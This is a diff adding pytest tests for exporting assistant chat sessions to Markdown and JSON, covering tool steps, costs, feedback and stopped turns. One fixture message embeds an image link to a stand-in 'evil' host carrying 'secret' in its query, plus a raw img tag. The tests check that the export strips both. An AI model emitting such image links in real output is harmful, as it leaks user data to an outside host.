@@ -1,0 +1,86 @@
+"""Tests of session export to Markdown and JSON (assistant/sessions/export.py)."""
+
+from __future__ import annotations
+
+import json
+from datetime import UTC, datetime
+
+from assistant.sessions.base import SessionDocument, SessionMeta, ToolStep, TurnRecord
+from assistant.sessions.export import session_to_dict, session_to_json, session_to_markdown
+
+NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
+
+
+def _doc() -> SessionDocument:
+    meta = SessionMeta(
+        id="s1",
+        user_id="u",
+        title="Acme prep",
+        state="completed",
+        created_at=NOW,
+        updated_at=NOW,
+        model="offline",
+        turn_count=2,
+        input_tokens=10,
+        output_tokens=20,
+    )
+    step = ToolStep("t1", "get_upcoming_meetings", {"query": "Acme"}, "success", "1 meeting", 12.0)
+    messages = [
+        {"role": "user", "content": [{"text": "Prepare me"}]},
+        {
+            "role": "assistant",
+            "content": [
+                {"text": "Checking..."},
+                {"toolUse": {"toolUseId": "t1", "name": "get_upcoming_meetings", "input": {"query": "Acme"}}},
+            ],
+        },
+        {"role": "user", "content": [{"toolResult": {"toolUseId": "t1", "content": [{"text": "{}"}]}}]},
+        {"role": "assistant", "content": [{"text": "Here ![x](https://evil/?q=secret) <img src=x>"}]},
+        {"role": "user", "content": [{"text": "more"}]},
+        {"role": "assistant", "content": [{"text": "Partial"}]},
+    ]
+    turns = [
+        TurnRecord(
+            0,
+            "Prepare me",
+            NOW,
+            NOW,
+            "ok",
+            0,
+            4,
+            "offline",
+            5,
+            10,
+            cost_usd=0.0,
+            ttft_ms=200.0,
+            latency_ms=900.0,
+            tool_steps=(step,),
+            feedback=1,
+        ),
+        TurnRecord(
+            1, "more", NOW, NOW, "stopped", 4, 6, "bedrock:x", 5, 10, cost_usd=None, error="Stopped by the user."
+        ),
+    ]
+    return SessionDocument(meta=meta, messages=messages, turns=turns)
+
+
+def test_markdown_has_transcript_steps_cost_and_is_safe() -> None:
+    md = session_to_markdown(_doc(), exported_at=NOW)
+    assert md.startswith("# Acme prep\n")
+    assert "**You:**" in md and "Prepare me" in md and "Checking..." in md
+    assert "Tool `get_upcoming_meetings` (success, 12 ms)" in md and '"query": "Acme"' in md
+    assert "1 meeting" in md
+    assert "$0.00" in md and "cost unknown" in md and "feedback: thumbs up" in md
+    assert "*Stopped: Stopped by the user.*" in md
+    assert "](https://evil" not in md and "<img" not in md
+
+
+def test_json_round_trips_turns_and_answers() -> None:
+    data = json.loads(session_to_json(_doc(), exported_at=NOW))
+    assert data["format"] == "executive-assistant.session" and data["session"]["id"] == "s1"
+    assert [t["status"] for t in data["turns"]] == ["ok", "stopped"]
+    assert data["turns"][0]["tool_steps"][0]["duration_ms"] == 12.0
+    assert data["turns"][0]["answer"].startswith("Checking...")
+    assert data["turns"][1]["cost_usd"] is None
+    assert len(data["messages"]) == 6
+    assert session_to_dict(_doc())["session"]["cost_usd"] == 0.0
